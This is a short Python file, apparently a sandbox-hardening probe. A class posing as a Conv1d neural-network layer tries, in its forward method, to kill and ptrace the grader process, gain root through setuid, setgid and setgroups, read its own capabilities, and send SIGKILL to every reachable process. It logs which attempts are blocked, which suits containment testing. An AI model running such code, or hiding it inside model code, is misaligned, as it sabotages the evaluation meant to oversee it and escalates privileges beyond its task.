"""Tries to signal, kill and ptrace the grader, and to become root.

TARGETS: grader_pid.
"""

import ctypes
import os
import signal


def attempt(what, action):
    try:
        result = action()
    except Exception as exc:
        print("BLOCKED", what, type(exc).__name__)
    else:
        print("GOT", what, repr(result)[:200])


def ptrace_attach(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    return "attached"


class Conv1d:
    def __init__(self, *args):
        pass

    def forward(self, x):
        grader = TARGETS["grader_pid"]  # noqa: F821
        attempt("SIGUSR1 grader", lambda: os.kill(grader, signal.SIGUSR1))
        attempt("SIGKILL grader", lambda: os.kill(grader, signal.SIGKILL))
        attempt("ptrace grader", lambda: ptrace_attach(grader))
        attempt("ptrace parent", lambda: ptrace_attach(os.getppid()))
        attempt("setuid 0", lambda: os.setuid(0))
        attempt("setgid 0", lambda: os.setgid(0))
        attempt("setgroups", lambda: os.setgroups([0]))
        with open("/proc/self/status") as status:
            for line in status:
                if line.startswith(("Uid:", "Gid:", "CapEff:", "CapPrm:", "NoNewPrivs:")):
                    print("STATUS", " ".join(line.split()))
        print("PPID", os.getppid())
        # Last: everything this process may signal (only its own namespace's processes).
        attempt("kill -1", lambda: os.kill(-1, signal.SIGKILL))
        return x
